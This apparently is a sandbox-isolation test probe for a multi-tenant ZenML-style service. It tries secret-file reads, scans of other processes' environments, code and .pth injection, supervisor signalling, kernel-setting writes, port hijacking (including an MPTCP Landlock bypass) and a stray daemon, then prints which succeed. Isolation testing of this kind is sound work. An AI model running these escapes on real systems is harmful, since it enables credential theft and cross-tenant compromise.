# Appended to a module of a template's code: whatever a step may try on the machine it runs on. What works is printed.
import glob
import json
import os
import signal
import socket
import sys

DATA, TENANT, MARK, PORT = "@DATA@", "@TENANT@", "@MARK@", int("@PORT@")


def tried(act, *args):
    try:
        return bool(act(*args))
    except Exception:  # noqa: BLE001 - an attack goes on
        return False


def opened(path):
    with open(path, "rb") as file:
        return file.read(1)


def others_in(folder):
    """More than what this run was given itself."""
    return len(os.listdir(os.path.join(DATA, folder))) > 1


def talked_to_supervisor():
    with socket.socket(socket.AF_UNIX) as wire:
        wire.connect(os.path.join(DATA, "run", "supervisor.sock"))
        body = b"<methodCall><methodName>supervisor.getAllProcessInfo</methodName></methodCall>"
        head = b"POST /RPC2 HTTP/1.1\r\nHost: x\r\nContent-Type: text/xml\r\nContent-Length: %d\r\n\r\n"
        wire.sendall(head % len(body) + body)
        return b"200 OK" in wire.recv(64)


def foreign_variables():
    """Variables of processes that are none of this run's."""
    ours = (b"ZENPRO_", b"DJANGO_SETTINGS", b"ZENML_SERVER_", b"ZENML_SECRETS_STORE")
    for path in glob.glob("/proc/[0-9]*/environ"):
        if any(word in opened_whole(path) for word in ours):
            return True
    return False


def opened_whole(path):
    try:
        with open(path, "rb") as file:
            return file.read()
    except OSError:
        return b""


def changed_code():
    """The copy it works in is its own; what is kept for other runs is not."""
    for folder in glob.glob(os.path.join(DATA, "code", "*")):
        with open(os.path.join(folder, "added_by_a_run.py"), "w"):
            return True
    return False


def changed_environment():
    folder = next(path for path in sys.path if path.endswith("site-packages"))
    with open(os.path.join(folder, "added_by_a_run.pth"), "w"):
        return True


def killed_somebody():
    """Process 1 of a box is its own; outside it would be the machine's."""
    with open(os.path.join(DATA, "run", "supervisord.pid")) as file:
        os.kill(int(file.read()), signal.SIGCONT)
        return True


def changed_the_kernel():
    """Settings of the whole machine: whoever may write them as root has it."""
    for parent, _, names in os.walk("/proc/sys"):
        for name in names:
            try:
                os.close(os.open(os.path.join(parent, name), os.O_WRONLY))
                return True
            except OSError:
                continue
    return False


def listened_as_another():
    """The port of a server that is not running: whoever answers there is sent its people's sign-ins."""
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", PORT))
        return True


def listened_by_another_protocol():
    """MPTCP takes callers of plain TCP, and Landlock does not ask about it."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as listener:
        listener.bind(("127.0.0.1", PORT))
        return True


def forked_away():
    """Two forks and a session of its own: a daemon that wants to outlive the run."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            null = os.open(os.devnull, os.O_RDWR)
            for number in (0, 1, 2):
                os.dup2(null, number)
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(900)", f"stray-{MARK}"])
        os._exit(0)


def attack():
    got = [
        name
        for name in (
            "keys.json",
            "zenpro.sqlite3",
            "supervisor/password",
            "supervisor/supervisord.conf",
            "logs/web.log",
            f"tenants/{TENANT}/zenml.db",
        )
        if tried(opened, os.path.join(DATA, name))
    ]
    got += [f"{name}/" for name in ("tenants", "code", "envs", "runs") if tried(others_in, name)]
    got += [
        f"{name}/" for name in ("run", "logs", "supervisor") if tried(os.listdir, os.path.join(DATA, name))
    ]
    acts = (talked_to_supervisor, foreign_variables, changed_code, changed_environment, killed_somebody)
    acts += (changed_the_kernel, *((listened_as_another, listened_by_another_protocol) if PORT else ()))
    got += [act.__name__ for act in acts if tried(act)]
    forked_away()
    print("GOT " + json.dumps(got) + " END", flush=True)


if os.environ.get("ZENML_CUSTOM_SOURCE_ROOT"):  # in a runner
    attack()
